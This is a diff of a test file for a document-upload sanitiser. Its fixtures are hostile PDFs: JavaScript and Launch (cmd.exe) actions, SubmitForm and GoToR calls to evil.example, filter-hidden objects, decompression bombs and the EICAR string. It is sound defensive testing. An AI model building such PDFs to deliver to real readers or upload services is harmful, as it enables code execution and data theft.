@@ -1,10 +1,11 @@
 import assert from 'node:assert/strict'
 import { randomBytes } from 'node:crypto'
 import { test } from 'node:test'
-import { deflateSync } from 'node:zlib'
+import { deflateSync, inflateSync } from 'node:zlib'
 import { upload } from '@sampan/contract/constants.ts'
 import { refusals } from '@sampan/contract/refusals.ts'
 import sharp from 'sharp'
+import { bankPdf, handmadePdf } from '../../../../../tests/support/pdf.ts'
 import { displayName, inspectFile } from './inspect-file.ts'
 
 const photo = (format: 'jpeg' | 'png', width = 40, height = 30) =>
@@ -12,18 +13,6 @@ const photo = (format: 'jpeg' | 'png', width = 40, height = 30) =>
     .withExif({ IFD0: { Artist: 'SECRET-AUTHOR', Copyright: 'SECRET-PLACE' } })
     .toFormat(format)
     .toBuffer()
-
-const pdf = (body: string) =>
-  Buffer.from(
-    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${body} >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`,
-    'latin1',
-  )
-const streamed = (dictionary: string, body: Buffer) =>
-  Buffer.concat([
-    Buffer.from(`%PDF-1.7\n3 0 obj\n<< ${dictionary} /Length ${body.length} >>\nstream\n`),
-    body,
-    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
-  ])
 
 const inspect = (bytes: Buffer, name = 'proof.png', type = 'image/png') => inspectFile({ name, type, bytes })
 const refused = async (bytes: Buffer, name?: string): Promise<string | undefined> => {
@@ -38,7 +27,7 @@ const refused = async (bytes: Buffer, name?: string): Promise<string | undefined
 test('[5.17] JPG, PNG and PDF are taken, by their content and whatever they are called', async () => {
   assert.equal((await inspect(await photo('jpeg'), 'x.pdf')).type, 'image/jpeg')
   assert.equal((await inspect(await photo('png'), 'x.jpg')).type, 'image/png')
-  assert.equal((await inspect(pdf(''), 'x.png')).type, 'application/pdf')
+  assert.equal((await inspect(handmadePdf(), 'x.png')).type, 'application/pdf')
 })
 
 test('UP-08 a picture is drawn anew: place and author are gone, and so is whatever was hung on behind', async () => {
@@ -54,7 +43,7 @@ test('UP-08 a picture is drawn anew: place and author are gone, and so is whatev
 
 test('[5.20] UP-03 a file of exactly 5M is judged, one byte more is refused by its size', async () => {
   const fill = (size: number) =>
-    Buffer.concat([pdf('').subarray(0, -6), Buffer.alloc(size - pdf('').length, 0x20), Buffer.from('%%EOF\n')])
+    Buffer.concat([handmadePdf().subarray(0, -6), Buffer.alloc(size - handmadePdf().length, 0x20), Buffer.from('%%EOF\n')])
   assert.equal(fill(upload.fileBytesMax).length, upload.fileBytesMax)
   assert.equal(await refused(fill(upload.fileBytesMax)), undefined)
   assert.equal(await refused(fill(upload.fileBytesMax + 1)), 'fileTooLarge')
@@ -71,73 +60,153 @@ const markup = [
   '',
 ]
 const actions = [
-  '/OpenAction 5 0 R',
-  '/AA << /O 6 0 R >>',
-  '/Names << /JavaScript 7 0 R >>',
-  '/S /JavaScript /JS (app.alert(1))',
-  '/J#53 (x)',
-  '/#4aavaScript 1 0 R',
-  '/Launch << >>',
-  '/EmbeddedFiles 9 0 R',
-  '/Type /Filespec',
-  '/XFA 3 0 R',
-  '/SubmitForm',
-  '/GoToR',
-  '/RichMedia',
-  '/Encrypt 4 0 R',
-  '/ImportData',
-  '/Subtype /FileAttachment',
+  '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
+  '/AA << /WC 6 0 R >>',
+  '/Names << /JavaScript 7 0 R /EmbeddedFiles 9 0 R >>',
+  '/J#53 (x) /#4aavaScript 1 0 R',
+  '/AcroForm << /XFA 3 0 R /Fields [] >>',
 ]
+const behind = [
+  '<< /S /Launch /F (cmd.exe) >>',
+  '<< /Type /Filespec /EF << /F 9 0 R >> >>',
+  '<< /S /SubmitForm /F (http://evil.example) >>',
+  '<< /S /GoToR /F (http://evil.example/a.pdf) >>',
+  '<< /Subtype /FileAttachment >>',
+  '<< /Subtype /RichMedia >>',
+]
+  .map((object, at) => `${20 + at} 0 obj\n${object}\nendobj\n`)
+  .join('')
 
-test('[5.18] UP-01 UP-02 UP-09 UP-12 D22: 150 hostile files, nothing active is taken, each judged quickly and in bounded memory', async () => {
+const stream = (dictionary: string, body: Buffer): string =>
+  `9 0 obj\n<< ${dictionary} /Length ${body.length} >>\nstream\n${body.toString('latin1')}\nendstream\nendobj\n`
+const hex = (bytes: Buffer): Buffer => Buffer.from(`${bytes.toString('hex')}>`)
+/** Objects in a stream of every filter that readers know, alone and on top of each other. */
+const hidden = (dictionary: string, pack: (bytes: Buffer) => Buffer): string => {
+  const objects = Buffer.from('10 0 << /S /JavaScript /JS (app.alert(1)) >>')
+  return stream(`/Type /ObjStm /N 1 /First 5 ${dictionary}`, pack(objects))
+}
+const hiding = [
+  hidden('/Filter /FlateDecode', (bytes) => deflateSync(bytes)),
+  hidden('/Filter /ASCIIHexDecode', hex),
+  hidden('/Filter [/ASCIIHexDecode /FlateDecode]', (bytes) => hex(deflateSync(bytes))),
+  hidden('/Filter /RunLengthDecode', (bytes) => Buffer.concat([Buffer.from([bytes.length - 1]), bytes, Buffer.from([128])])),
+  hidden(`/Padding (${'x'.repeat(5_000)}) /Filter /FlateDecode`, (bytes) => deflateSync(bytes)),
+  hidden('/Filter /Unknown', (bytes) => bytes),
+].join('')
+
+/** The only names that a PDF of our own making has; all of them are shown outside of its streams. */
+const ownNames =
+  'BitsPerComponent Catalog ColorSpace Contents Count CreationDate Creator DCTDecode Dests DeviceRGB Filter FlateDecode Height ID Image ' +
+  'ImageB ImageC ImageI Info Kids Length MediaBox Names PDF Page Pages Parent ProcSet Producer Resources Root Size Subtype Text Type ' +
+  'UserUnit Width XObject'
+
+/** Made of pictures alone: no name but ours, and every stream is a JPEG or draws one. */
+function assertPicturesOnly(bytes: Buffer): void {
+  const text = bytes.toString('latin1')
+  const streams = [...text.matchAll(/\/Filter \/(\w+)\n>>\nstream\r?\n([\s\S]*?)\nendstream/g)]
+  for (const [, filter, body = ''] of streams)
+    if (filter === 'DCTDecode') assert.ok(body.startsWith('\xff\xd8\xff'))
+    else assert.match(inflateSync(Buffer.from(body, 'latin1')).toString(), /^[\d\s.-]+cm\s+q\s+[\d\s.-]+cm\s+\/I\d+ Do\s+Q\s*$/)
+  const outside = text.replaceAll(/stream\r?\n[\s\S]*?endstream/g, '')
+  const names = new Set((outside.match(/\/[^\s/<>[\]()]+/g) ?? []).map((name) => name.slice(1)))
+  for (const name of names) assert.ok(ownNames.split(' ').includes(name) || /^I\d+$/.test(name), name)
+}
+
+test('[5.18] UP-01 UP-02 UP-09 UP-12 D22: hostile files, nothing active is taken, each judged in bounded time and memory', async () => {
   const jpeg = await photo('jpeg')
   const png = await photo('png')
-  const hidden = (text: string) => streamed('/Type /ObjStm /Filter /FlateDecode', deflateSync(Buffer.from(text)))
-  const bomb = streamed('/Type /ObjStm /Filter /FlateDecode', deflateSync(Buffer.alloc(64 * 1024 * 1024)))
   const huge = Buffer.from(png)
   // The header says 50,000 x 50,000; the pixels were never there.
   huge.writeUInt32BE(50_000, 16)
   huge.writeUInt32BE(50_000, 20)
+  const virus = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
   const files: Buffer[] = [
     ...markup.map((text) => Buffer.from(text)),
-    ...markup
-      .slice(0, 4)
-      .map((text) => Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.from(text), Buffer.from('\n%%EOF')]))
-      .slice(0, 2),
-    ...actions.map(pdf),
-    ...actions.map(hidden),
-    ...actions.map((action) => Buffer.concat([pdf(''), Buffer.from(`\n8 0 obj << ${action} >> endobj\n%%EOF`)])),
-    bomb,
     huge,
-    streamed('/Type /ObjStm /Filter /FlateDecode', randomBytes(2000)),
-    Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(4 * 1024 * 1024, '<<'), Buffer.from('\nstream\n%%EOF')]),
-    Buffer.concat([
-      Buffer.from('%PDF-1.7\n'),
-      Buffer.from('1 0 obj <<>>\nstream\nendstream\n'.repeat(6000)),
-      Buffer.from('%%EOF'),
-    ]),
-    Buffer.from('%PDF-1.7\nno end'),
-    Buffer.concat([
-      pdf('').subarray(0, -6),
-      Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*\n%%EOF'),
-    ]),
+    handmadePdf('', `% ${virus}\n`),
     ...Array.from({ length: 30 }, (_, at) => jpeg.subarray(0, 4 + at * 3)),
     ...Array.from({ length: 30 }, (_, at) => png.subarray(0, 9 + at)),
     ...Array.from({ length: 20 }, () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(3000)])),
     ...Array.from({ length: 20 }, () => Buffer.concat([png.subarray(0, 8), randomBytes(3000)])),
   ]
-  assert.ok(files.length >= 150, String(files.length))
-  const before = process.memoryUsage().rss
+  assert.ok(files.length >= 110, String(files.length))
   for (const [at, bytes] of files.entries()) {
     const started = performance.now()
     const answer = await refused(bytes, `${at}.png`)
     assert.ok(
-      answer === 'fileRefused' || answer === 'fileTooLarge',
+      answer === 'fileRefused' || answer === 'fileInfected',
       `file ${at}: ${bytes.subarray(0, 60).toString('latin1')} ${answer}`,
     )
     assert.ok(performance.now() - started < 2000, `file ${at} took too long`)
   }
-  assert.ok(process.memoryUsage().rss - before < 300 * 1024 * 1024)
+})
+
+test('[5.18] UP-02 UP-15 a PDF that could act, in any filter or dictionary, comes out as pictures alone', async () => {
+  const encrypted = await bankPdf({ ownerPassword: 'owner' })
+  for (const bytes of [
+    handmadePdf(actions.join(' '), behind),
+    handmadePdf('', hiding),
+    handmadePdf(`/Padding (${'x'.repeat(20_000)}) ${actions.join(' ')}`),
+    Buffer.concat([handmadePdf(), Buffer.from(`\n8 0 obj << ${actions[0]} >> endobj\n%%EOF`)]),
+    encrypted,
+  ])
+    assertPicturesOnly((await inspect(bytes)).bytes)
+})
+
+test('D8 proofs as banks make them are taken: opened at a page, encrypted without a password, with some pages', async () => {
+  const opening = handmadePdf('/OpenAction [3 0 R /XYZ null null 1]')
+  for (const [bytes, pages] of [
+    [opening, 1],
+    [await bankPdf({ ownerPassword: 'owner' }), 1],
+    [await bankPdf({ pages: 3 }), 3],
+  ] as const) {
+    const { bytes: safe, type } = await inspect(bytes)
+    assert.equal(type, 'application/pdf')
+    assert.equal(safe.toString('latin1').match(/\/Type \/Page\n/g)?.length, pages)
+    assertPicturesOnly(safe)
+  }
+  // What is printed there can be seen.
+  const { bytes } = await inspect(await bankPdf())
+  const start = bytes.indexOf(Buffer.from([0xff, 0xd8, 0xff]))
+  const { channels } = await sharp(bytes.subarray(start)).stats()
+  assert.deepEqual([channels[0]?.min ?? 255, channels[0]?.max], [0, 255])
+})
+
+test('D8 UP-15 a PDF that cannot be taken is refused for its true reason', async () => {
+  const whole = await bankPdf()
+  for (const [bytes, reason] of [
+    [await bankPdf({ userPassword: 'secret' }), 'pdfLocked'],
+    [await bankPdf({ pages: 21 }), 'pdfTooLong'],
+    [Buffer.from('%PDF-1.7\nnothing that could be read\n%%EOF'), 'pdfDamaged'],
+    [handmadePdf().subarray(0, 60), 'pdfDamaged'],
+    [Buffer.concat([whole.subarray(0, 40), randomBytes(2_000)]), 'pdfDamaged'],
+    [
+      Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(4 * 1024 * 1024, '<<'), Buffer.from('\nstream\n%%EOF')]),
+      'pdfDamaged',
+    ],
+  ] as const)
+    assert.equal(await refused(bytes), reason)
+})
+
+test('UP-06 a PDF that unfolds into gigabytes is refused in bounded memory', async () => {
+  const zeros = deflateSync(Buffer.alloc(64 * 1024 * 1024))
+  const twice = deflateSync(zeros)
+  const page = '4 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /Contents 9 0 R >>\nendobj\n'
+  const before = process.memoryUsage().rss
+  for (const more of [
+    stream('/Filter [/FlateDecode /FlateDecode]', twice),
+    stream(
+      '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
+      zeros,
+    ),
+  ]) {
+    const bytes = Buffer.from(
+      handmadePdf('', `${page}${more}`).toString('latin1').replace('/Kids [3 0 R]', '/Kids [4 0 R]'),
+      'latin1',
+    )
+    await refused(bytes)
+  }
+  assert.ok(process.memoryUsage().rss - before < 400 * 1024 * 1024)
 })
 
 test('UP-06 a picture of too many pixels is refused within a second', async () => {
